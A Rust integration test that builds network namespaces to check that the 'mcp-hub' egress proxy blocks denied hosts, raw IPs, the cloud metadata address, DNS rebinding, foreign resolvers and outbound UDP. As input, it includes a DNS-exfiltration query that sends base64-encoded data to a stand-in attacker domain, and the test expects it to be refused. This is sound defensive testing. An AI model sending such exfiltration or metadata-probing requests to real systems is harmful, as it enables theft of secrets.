//! End-to-end egress enforcement in network namespaces this test creates itself (root only; skipped
//! otherwise, required under CI). Topology:
//!
//! ```text
//!  dbx  (devbox, policy "dev")     10.77.0.2 --- 10.77.0.1  hub  (mcp-hub run, nft ruleset from
//!  dbx2 (devbox, policy "locked")  10.77.1.2 --- 10.77.1.1        `mcp-hub firewall`, sample upstream)
//!                                                10.88.0.1 --- 10.88.0.2  wld (HTTP :80, HTTPS :443, UDP sink)
//! ```
//!
//! Devboxes resolve every test name to the hub (their /etc/netns hosts file), which must not matter:
//! the hub resolves names itself (its own hosts file maps allowed.test to the world). Clients are the
//! ordinary tools an agent uses: curl, openssl, python.

#![allow(clippy::unwrap_used)] // test code: a failed step is a failed test

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

const BIN: &str = env!("CARGO_BIN_EXE_mcp-hub");

fn is_root() -> bool {
    nix::unistd::Uid::effective().is_root()
}

fn run(args: &[&str]) -> Output {
    Command::new(args[0])
        .args(&args[1..])
        .output()
        .unwrap_or_else(|e| panic!("{args:?}: {e}"))
}

fn ok(args: &[&str]) -> String {
    let o = run(args);
    assert!(
        o.status.success(),
        "{args:?} failed: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// Everything the test created; removed on drop, also when the test fails.
struct Lab {
    id: String,
    dir: tempfile::TempDir,
    children: Vec<Child>,
}

impl Lab {
    fn ns(&self, n: &str) -> String {
        format!("mh{n}{}", self.id)
    }

    fn exec(&self, n: &str, args: &[&str]) -> Output {
        let ns = self.ns(n);
        let mut full = vec!["ip", "netns", "exec", ns.as_str()];
        full.extend_from_slice(args);
        run(&full)
    }

    fn spawn(&mut self, n: &str, args: &[&str], env: &[(&str, &str)], log: &str) {
        let f = std::fs::File::create(self.dir.path().join(log)).unwrap();
        let c = Command::new("ip")
            .args(["netns", "exec", &self.ns(n)])
            .args(args)
            .envs(env.iter().copied())
            .stdout(Stdio::from(f.try_clone().unwrap()))
            .stderr(Stdio::from(f))
            .spawn()
            .unwrap();
        self.children.push(c);
    }

    fn hosts(&self, n: &str, text: &str) {
        let d = PathBuf::from(format!("/etc/netns/{}", self.ns(n)));
        std::fs::create_dir_all(&d).unwrap();
        std::fs::write(d.join("hosts"), text).unwrap();
    }

    fn log(&self, name: &str) -> String {
        std::fs::read_to_string(self.dir.path().join(name)).unwrap_or_default()
    }
}

impl Drop for Lab {
    fn drop(&mut self) {
        for c in &mut self.children {
            let _ = c.kill();
            let _ = c.wait();
        }
        for n in ["dbx", "dbx2", "hub", "wld"] {
            let ns = self.ns(n);
            let _ = Command::new("ip").args(["netns", "del", &ns]).output();
            let _ = std::fs::remove_dir_all(format!("/etc/netns/{ns}"));
        }
    }
}

fn wait_for(what: &str, mut f: impl FnMut() -> bool) {
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(20) {
        if f() {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("timed out waiting for {what}");
}

fn config(dir: &Path) -> PathBuf {
    let p = dir.join("hub.toml");
    std::fs::write(
        &p,
        r#"version = 1
[hub]
state_dir = "state"
[gateway]
listen = "127.0.0.1:8443"
url = "https://mcp.hub.internal/mcp"
[egress]
# Dual-stack: IPv4 devbox connections arrive as ::ffff:a.b.c.d, IPv6 ones as themselves.
transparent_listen = "[::]:15001"
explicit_listen = "10.77.0.1:3128"
dns_listen = "0.0.0.0:15353"
gateway_addresses = ["10.77.0.1"]
devbox_interfaces = ["vd0", "vd1"]
# The test's "outside world" is a private network; the operator allows it explicitly.
allowed_private_ranges = ["10.88.0.0/24", "fd88::/64"]

[[network_policies]]
name = "dev"
allowed_hostnames = ["allowed.test", "allowed6.test", "private.test", "rebind.test"]
allow_mcp_gateway = true

[[network_policies]]
name = "locked"
description = "no network at all, not even the gateway"
"#,
    )
    .unwrap();
    p
}

#[test]
fn transparent_egress_in_network_namespaces() {
    if !is_root() {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must run the netns suite as root"
        );
        eprintln!("skipping: network namespaces need root");
        return;
    }
    let id = format!("{:04x}", std::process::id() % 0xffff);
    let mut lab = Lab {
        id,
        dir: tempfile::tempdir().unwrap(),
        children: Vec::new(),
    };
    for n in ["dbx", "dbx2", "hub", "wld"] {
        ok(&["ip", "netns", "add", &lab.ns(n)]);
        lab.exec(n, &["ip", "link", "set", "lo", "up"]);
    }
    let (hub, dbx, dbx2, wld) = (lab.ns("hub"), lab.ns("dbx"), lab.ns("dbx2"), lab.ns("wld"));
    ok(&[
        "ip", "-n", &hub, "link", "add", "vd0", "type", "veth", "peer", "name", "eth0", "netns",
        &dbx,
    ]);
    ok(&[
        "ip", "-n", &hub, "link", "add", "vd1", "type", "veth", "peer", "name", "eth0", "netns",
        &dbx2,
    ]);
    ok(&[
        "ip", "-n", &hub, "link", "add", "vw", "type", "veth", "peer", "name", "eth0", "netns",
        &wld,
    ]);
    for (ns, dev, addr) in [
        (&hub, "vd0", "10.77.0.1/24"),
        (&hub, "vd1", "10.77.1.1/24"),
        (&hub, "vw", "10.88.0.1/24"),
        (&dbx, "eth0", "10.77.0.2/24"),
        (&dbx2, "eth0", "10.77.1.2/24"),
        (&wld, "eth0", "10.88.0.2/24"),
    ] {
        ok(&["ip", "-n", ns, "addr", "add", addr, "dev", dev]);
        ok(&["ip", "-n", ns, "link", "set", dev, "up"]);
    }
    ok(&[
        "ip",
        "-n",
        &dbx,
        "route",
        "add",
        "default",
        "via",
        "10.77.0.1",
    ]);
    ok(&[
        "ip",
        "-n",
        &dbx2,
        "route",
        "add",
        "default",
        "via",
        "10.77.1.1",
    ]);
    ok(&[
        "ip",
        "-n",
        &wld,
        "route",
        "add",
        "default",
        "via",
        "10.88.0.1",
    ]);
    // Devboxes point every name at the hub; the hub knows where things really are.
    let names = "mcp.hub.internal allowed.test denied.test private.test rebind.test";
    for (ns, dev, addr) in [
        (&hub, "vd0", "fd77::1/64"),
        (&hub, "vw", "fd88::1/64"),
        (&dbx, "eth0", "fd77::2/64"),
        (&wld, "eth0", "fd88::2/64"),
    ] {
        ok(&[
            "ip", "-n", ns, "-6", "addr", "add", addr, "dev", dev, "nodad",
        ]);
    }
    ok(&[
        "ip", "-n", &dbx, "-6", "route", "add", "default", "via", "fd77::1",
    ]);
    ok(&[
        "ip", "-n", &wld, "-6", "route", "add", "default", "via", "fd88::1",
    ]);
    lab.hosts(
        "dbx",
        &format!("127.0.0.1 localhost\n10.77.0.1 {names}\nfd77::1 allowed6.test\n"),
    );
    lab.hosts("dbx2", &format!("127.0.0.1 localhost\n10.77.1.1 {names}\n"));
    lab.hosts("hub", "127.0.0.1 localhost\n10.88.0.2 allowed.test denied.test\n192.168.200.7 private.test\n10.88.0.2 rebind.test\n169.254.169.254 rebind.test\nfd88::2 allowed6.test\n");

    // The world: an HTTP and an HTTPS origin, and a UDP sink.
    let d = lab.dir.path().to_path_buf();
    std::fs::write(d.join("index.html"), "hello from the world\n").unwrap();
    ok(&[
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-nodes",
        "-subj",
        "/CN=allowed.test",
        "-addext",
        "subjectAltName=DNS:allowed.test",
        "-days",
        "1",
        "-keyout",
        d.join("w.key").to_str().unwrap(),
        "-out",
        d.join("w.pem").to_str().unwrap(),
    ]);
    lab.spawn(
        "wld",
        &[
            "python3",
            "-m",
            "http.server",
            "80",
            "--bind",
            "10.88.0.2",
            "--directory",
            d.to_str().unwrap(),
        ],
        &[],
        "http.log",
    );
    lab.spawn(
        "wld",
        &[
            "python3",
            "-m",
            "http.server",
            "80",
            "--bind",
            "fd88::2",
            "--directory",
            d.to_str().unwrap(),
        ],
        &[],
        "http6.log",
    );
    lab.spawn(
        "wld",
        &[
            "openssl",
            "s_server",
            "-accept",
            "443",
            "-cert",
            d.join("w.pem").to_str().unwrap(),
            "-key",
            d.join("w.key").to_str().unwrap(),
            "-www",
            "-quiet",
        ],
        &[],
        "https.log",
    );
    let udp_sink = "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.bind(('10.88.0.2',5353));s.settimeout(8)\ntry:\n  s.recv(100);print('RECEIVED',flush=True)\nexcept Exception:\n  print('NOTHING',flush=True)";
    lab.spawn("wld", &["python3", "-c", udp_sink], &[], "udp.log");

    // The hub: config, devboxes, sample upstream, firewall, service.
    let cfg = config(&d);
    let c = cfg.to_str().unwrap();
    ok(&[
        BIN,
        "--config",
        c,
        "mcp-config",
        "create",
        "--name",
        "github",
        "--endpoint",
        "http://127.0.0.1:3900/mcp",
        "--allowed-tools",
        "github.get_*,github.search_*",
    ]);
    let mut sc = Command::new(BIN)
        .args(["--config", c, "secret", "create", "GH"])
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(sc.stdin.as_mut().unwrap(), b"netns-upstream-secret").unwrap();
    assert!(sc.wait().unwrap().success());
    let env = ok(&[
        BIN,
        "--config",
        c,
        "devbox",
        "create",
        "dbx",
        "--address",
        "10.77.0.2",
        "--address",
        "fd77::2",
        "--network-policy",
        "dev",
        "--mcp",
        "GITHUB_MCP_SECRET=github:GH",
    ]);
    let token = env
        .lines()
        .find_map(|l| l.strip_prefix("GITHUB_MCP_SECRET="))
        .unwrap()
        .to_string();
    ok(&[
        BIN,
        "--config",
        c,
        "devbox",
        "create",
        "dbx2",
        "--address",
        "10.77.1.2",
        "--network-policy",
        "locked",
    ]);
    let rules = ok(&[BIN, "--config", c, "firewall"]);
    std::fs::write(d.join("rules.nft"), &rules).unwrap();
    let o = lab.exec("hub", &["nft", "-f", d.join("rules.nft").to_str().unwrap()]);
    assert!(
        o.status.success(),
        "nft rejected the ruleset: {}\n{rules}",
        String::from_utf8_lossy(&o.stderr)
    );
    lab.spawn(
        "hub",
        &[BIN, "sample-upstream", "--listen", "127.0.0.1:3900"],
        &[("MCP_HUB_SAMPLE_SECRET", "netns-upstream-secret")],
        "upstream.log",
    );
    lab.spawn(
        "hub",
        &[BIN, "--config", c, "run"],
        &[("MCP_HUB_LOG", "info")],
        "hub.log",
    );
    wait_for("the hub", || {
        lab.log("hub.log").matches("Egress proxy ready").count() == 2
    });
    for (host, port) in [("10.88.0.2", "80"), ("10.88.0.2", "443"), ("fd88::2", "80")] {
        let probe = format!("exec 3<>/dev/tcp/{host}/{port}");
        wait_for("the world's origins", || {
            lab.exec("hub", &["bash", "-c", &probe]).status.success()
        });
    }
    let ca = d.join("state/ca/ca.pem");
    let ca = ca.to_str().unwrap();

    let curl = |ns: &str, args: &[&str]| -> Output {
        let mut a = vec!["curl", "-sS", "--max-time", "8"];
        a.extend_from_slice(args);
        lab.exec(ns, &a)
    };
    let text = |o: &Output| {
        format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    };

    // Allowed host over HTTP and HTTPS, although the devbox dialled the hub's address.
    let o = curl("dbx", &["http://allowed.test/"]);
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "hello from the world\n",
        "{}",
        text(&o)
    );
    let o = curl(
        "dbx",
        &[
            "--cacert",
            d.join("w.pem").to_str().unwrap(),
            "https://allowed.test/",
        ],
    );
    assert!(
        o.status.success() && text(&o).contains("s_server"),
        "{}",
        text(&o)
    );

    // Denied host: immediate 403 with the reason over HTTP; a TLS alert (no certificate) over HTTPS.
    let start = Instant::now();
    let o = curl("dbx", &["-i", "http://denied.test/"]);
    assert!(
        text(&o).contains("403 Forbidden")
            && text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
        "{}",
        text(&o)
    );
    assert!(
        text(&o).contains("blocked by network policy"),
        "{}",
        text(&o)
    );
    let o = curl("dbx", &["-k", "https://denied.test/"]);
    assert!(
        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
        "{}",
        text(&o)
    );
    assert!(
        start.elapsed() < Duration::from_secs(3),
        "denials must be immediate"
    );

    // IPv6: the same pipeline (IP6T_SO_ORIGINAL_DST, hub-side resolution to an IPv6 world).
    let o = curl("dbx", &["-6", "http://allowed6.test/"]);
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "hello from the world\n",
        "IPv6: {}",
        text(&o)
    );
    let o = curl(
        "dbx",
        &[
            "-6",
            "-i",
            "-g",
            "-H",
            "Host: denied.test",
            "http://[fd77::1]/",
        ],
    );
    assert!(
        text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
        "IPv6 denial: {}",
        text(&o)
    );
    let o = curl("dbx", &["-6", "-i", "-g", "http://[fd88::2]/"]);
    assert!(
        text(&o).contains("X-Proxy-Error: raw_ip"),
        "IPv6 raw address: {}",
        text(&o)
    );

    // Raw IPs, the metadata address, names resolving to private addresses, DNS rebinding.
    let o = curl("dbx", &["-i", "http://10.88.0.2/"]);
    assert!(text(&o).contains("X-Proxy-Error: raw_ip"), "{}", text(&o));
    let o = curl("dbx", &["-k", "https://169.254.169.254/"]);
    assert!(
        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
        "{}",
        text(&o)
    );
    let o = curl("dbx", &["-i", "http://private.test/"]);
    assert!(
        text(&o).contains("X-Proxy-Error: private_address"),
        "{}",
        text(&o)
    );
    let o = curl("dbx", &["-i", "http://rebind.test/"]);
    assert!(
        text(&o).contains("X-Proxy-Error: private_address"),
        "one private answer refuses the name: {}",
        text(&o)
    );
    // Host and absolute target disagreeing inside one request.
    let o = curl(
        "dbx",
        &["-i", "-H", "Host: allowed.test", "http://denied.test/"],
    );
    assert!(
        text(&o).contains("hello from the world"),
        "Host decides, and it is the host dialled: {}",
        text(&o)
    );

    // The MCP gateway, intercepted and served by the hub, exactly as directly.
    let mcp = |ns: &str| {
        curl(
            ns,
            &[
                "--cacert",
                ca,
                "-H",
                &format!("Authorization: Bearer {token}"),
                "-H",
                "Content-Type: application/json",
                "-H",
                "Accept: application/json, text/event-stream",
                "-d",
                r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#,
                "https://mcp.hub.internal/mcp",
            ],
        )
    };
    let o = mcp("dbx");
    assert!(
        o.status.success()
            && text(&o).contains("github.get_issue")
            && !text(&o).contains("delete_repo"),
        "{}",
        text(&o)
    );
    if let Some(py) =
        std::env::var_os("MCP_HUB_INTEROP_DIR").map(|d| PathBuf::from(d).join("venv/bin/python"))
    {
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/interop/netns_client.py");
        let o = Command::new("ip")
            .args([
                "netns",
                "exec",
                &dbx,
                py.to_str().unwrap(),
                script,
                "https://mcp.hub.internal/mcp",
                &token,
            ])
            .env("SSL_CERT_FILE", ca)
            .output()
            .unwrap();
        assert!(
            o.status.success() && text(&o).contains("github.get_issue"),
            "python client in the devbox: {}",
            text(&o)
        );
    }

    // Explicit proxy (HTTPS_PROXY) from inside the devbox reaches the same decisions.
    let o = curl(
        "dbx",
        &["-x", "http://10.77.0.1:3128", "http://allowed.test/"],
    );
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "hello from the world\n",
        "{}",
        text(&o)
    );
    let o = curl(
        "dbx",
        &["-x", "http://10.77.0.1:3128", "-k", "https://denied.test/"],
    );
    assert!(
        !o.status.success() && text(&o).contains("403"),
        "{}",
        text(&o)
    );

    // The second devbox gets its own policy: nothing, not even the gateway.
    let o = curl("dbx2", &["-i", "http://allowed.test/"]);
    assert!(
        text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
        "{}",
        text(&o)
    );
    let o = mcp("dbx2");
    assert!(
        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
        "{}",
        text(&o)
    );

    // DNS (port 53 is redirected to the hub's responder): allowed names and the gateway are answered,
    // everything else is refused and never forwarded.
    let dig = |ns: &str, name: &str| -> String {
        let o = lab.exec(ns, &["dig", "+tries=1", "+time=3", "@10.77.0.1", name, "A"]);
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let out = dig("dbx", "allowed.test");
    assert!(
        out.contains("status: NOERROR") && out.contains("10.88.0.2"),
        "{out}"
    );
    let out = dig("dbx", "mcp.hub.internal");
    assert!(
        out.contains("status: NOERROR") && out.contains("10.77.0.1"),
        "{out}"
    );
    for name in [
        "denied.test",
        "c2VjcmV0.exfil.attacker.example",
        "private.test",
    ] {
        let out = dig("dbx", name);
        assert!(out.contains("status: REFUSED"), "{name}: {out}");
    }
    let out = dig("dbx2", "mcp.hub.internal");
    assert!(
        out.contains("status: REFUSED"),
        "locked policy, gateway name: {out}"
    );
    // Any other resolver is unreachable: the query to it is redirected to the hub too.
    let o = lab.exec(
        "dbx",
        &["dig", "+tries=1", "+time=3", "@8.8.8.8", "denied.test", "A"],
    );
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("status: REFUSED"),
        "{}",
        text(&o)
    );

    // UDP (QUIC included) does not leave: the world's sink receives nothing.
    let send = "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nfor _ in range(5): s.sendto(b'x',('10.88.0.2',5353))";
    lab.exec("dbx", &["python3", "-c", send]);
    wait_for("the UDP sink", || !lab.log("udp.log").is_empty());
    assert_eq!(lab.log("udp.log").trim(), "NOTHING");

    // Audit: one line per connection with devbox, policy, verdict and reason.
    let log = lab.log("hub.log");
    assert!(log.contains("devbox=\"dbx\""), "no dbx line in {log}");
    assert!(
        log.contains("reason=\"not_in_allowed_hostnames\""),
        "no denial line in {log}"
    );
    assert!(log.contains("reason=\"mcp_gateway\""), "{log}");
    assert!(
        log.contains("devbox=\"dbx2\"") && log.contains("reason=\"mcp_gateway_not_allowed\""),
        "{log}"
    );
    let _ = wld;
}
